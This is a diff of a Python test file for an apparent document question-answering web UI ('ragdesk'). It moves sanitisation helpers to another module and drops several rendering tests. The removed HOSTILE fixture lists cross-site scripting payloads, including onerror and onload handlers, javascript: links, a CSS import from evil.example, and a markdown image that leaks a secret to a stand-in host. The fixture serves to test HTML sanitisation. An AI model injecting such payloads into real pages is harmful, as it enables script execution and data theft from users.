@@ -4,88 +4,26 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from harmless import HOSTILE, answer, harmless
 from scripted import make_document, make_hit
 from selectolax.lexbor import LexborHTMLParser
 
 from ragdesk.background import IntakeState
 from ragdesk.types import (
-    Answer,
-    Citation,
     Entry,
     IngestProgress,
     IngestResult,
     Job,
-    QuoteBox,
     Sentence,
-    Timings,
 )
 from ragdesk.ui import (
     render,
     render_chat,
-    render_citations,
     render_details,
     render_entries,
-    render_library,
+    render_evidence,
     render_queue,
 )
-
-HOSTILE = (
-    "<img src=x onerror=alert(1)> ![a](http://evil.example/?q=secret) [go](javascript:alert(1)) <svg/onload=alert(1)> "
-    '<script>alert(1)</script> <a href="http://evil.example">x</a> `</code><iframe src=//evil>` **</strong><b onclick=x>** '
-    "<style>@import 'http://evil'</style> &lt;script&gt; \" ' \\ $x$ \u202egnp.exe <div style=background:url(//evil)>"
-)
-ALLOWED = {
-    "div",
-    "p",
-    "span",
-    "a",
-    "strong",
-    "code",
-    "mark",
-    "bdi",
-    "ol",
-    "ul",
-    "li",
-    "blockquote",
-    "h2",
-    "h3",
-    "h4",
-    "dl",
-}
-ALLOWED |= {"dt", "dd", "progress", "figure", "figcaption", "img", "em"}
-
-
-def harmless(html: str) -> None:
-    """Only our own elements; links lead to actions or our own routes; pictures come from our own route."""
-    tree = LexborHTMLParser(f"<body>{html}</body>")
-    assert tree.body is not None
-    for node in tree.body.traverse():
-        if node == tree.body:
-            continue
-        assert node.tag in ALLOWED, node.tag
-        for name, value in node.attributes.items():
-            assert not name.startswith("on"), name
-            if name == "href":
-                assert value is not None and value.startswith(("#rd:", "/ragdesk/")), value
-            if name == "src":
-                assert value is not None and value.startswith("/ragdesk/page/"), value
-
-
-def citation(**more: object) -> Citation:
-    values = {
-        "number": 1, "chunk_id": "c" * 12, "document_id": "d" * 16, "document": HOSTILE, "title": HOSTILE, "page": 1,
-        "section": HOSTILE, "quote": HOSTILE, "char_start": 0, "char_end": len(HOSTILE), "verified": True,
-    }  # fmt: skip
-    return Citation(**(values | more))  # type: ignore[arg-type]
-
-
-def answer(**more: object) -> Answer:
-    values = {
-        "question": HOSTILE, "standalone_question": HOSTILE + "?", "text": HOSTILE, "verdict": "answered",
-        "citations": (citation(),), "sentences": (Sentence(HOSTILE, (1,), True), Sentence(HOSTILE, (), False)),
-        "hits": (make_hit(HOSTILE),), "timings": Timings(0.1), "model": HOSTILE,
-    }  # fmt: skip
-    return Answer(**(values | more))  # type: ignore[arg-type]
 
 
 def test_an_answer_is_harmless_cut_at_every_position() -> None:
@@ -98,22 +36,10 @@ def test_finished_answers_evidence_and_citations_are_harmless(verdict: str) -> N
     given = answer(verdict=verdict)
     harmless(render_chat.answer(given, "key"))
     harmless(render_chat.question(HOSTILE))
-    harmless(render_chat.evidence(given.hits, {"d" * 16: HOSTILE}, HOSTILE))
-    harmless(render_citations.citations(given, "key", 1, {1: "unchanged"}))
-    harmless(render_citations.toolbar(citation(), make_document(name=HOSTILE)))
-    harmless(render_citations.gone(citation()))
-    harmless(render_citations.passage(HOSTILE * 3, 10, 40))
-    harmless(render_library.hits(list(given.hits), {"d" * 16: HOSTILE}, HOSTILE))
-    document = make_document(name=HOSTILE)
-    harmless(render_library.documents([document]))
-    harmless(render_library.documents([document], "", render_library.Removing(document.id, 2, 3)))
+    harmless(render_evidence.evidence(given.hits, {"d" * 16: HOSTILE}, HOSTILE))
 
 
-def test_details_and_entries_are_harmless() -> None:
-    document = replace(make_document(name=HOSTILE), description=HOSTILE, sources=(HOSTILE,), title=HOSTILE)
-    document = replace(document, collections=(HOSTILE,), properties=((HOSTILE, HOSTILE),))
-    parts = [render_details.Inside(HOSTILE, "a" * 16, ""), render_details.Inside(HOSTILE, None, HOSTILE)]
-    harmless(render_details.details(document, [make_hit(HOSTILE).chunk], [document], parts))
+def test_entries_are_harmless() -> None:
     for state in ("proposed", "approved", "rejected"):
         entry = Entry("e" * 16, state, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE)
         harmless(render_entries.entries([entry]))
@@ -137,17 +63,9 @@ def test_an_entry_says_where_it_comes_from(origin: str, said: str) -> None:
 def test_what_search_could_not_do_stands_with_the_evidence_or_instead_of_it() -> None:
     note = "Your embedding model knows <English> only."
     for hits in ([make_hit("Die Pumpe")], []):
-        shown = render_chat.evidence(hits, {}, "Was?", note)
+        shown = render_evidence.evidence(hits, {}, "Was?", note)
         assert '<p class="rd-hint">Your embedding model knows &lt;English&gt; only.</p>' in shown
-        assert "embedding" not in render_chat.evidence(hits, {}, "Was?")
-
-
-def test_a_removal_says_how_many_answers_quote_the_document() -> None:
-    shown = render_library.documents([make_document()], "", render_library.Removing("d" * 16, 2, 1))
-    assert "2 files inside of it" in shown and "also delete 1 answer that quotes it" in shown
-    assert "also delete" not in render_library.documents(
-        [make_document()], "", render_library.Removing("d" * 16)
-    )
+        assert "embedding" not in render_evidence.evidence(hits, {}, "Was?")
 
 
 def test_the_page_of_a_text_is_text_with_the_quote_marked() -> None:
@@ -166,12 +84,6 @@ def test_a_sentence_without_support_looks_different_and_says_so() -> None:
         answer(sentences=(Sentence("True.", (1,), True), Sentence("Odd.", (), False)), text="True. Odd."), "k"
     )
     assert "rd-unsupported" in shown and shown.index("True.") < shown.index("rd-unsupported")
-
-
-def test_the_highlight_is_laid_over_the_picture_in_shares_of_the_page() -> None:
-    shown = render_citations.page("d" * 16, 3, (200.0, 400.0), [QuoteBox(3, 50, 100, 150, 120)], "file.pdf")
-    assert "/ragdesk/page/dddddddddddddddd/3" in shown
-    assert "left:24.500%;top:24.750%;width:51.000%;height:5.500%" in shown
 
 
 def test_a_passage_is_read_without_the_marks_of_markdown() -> None:
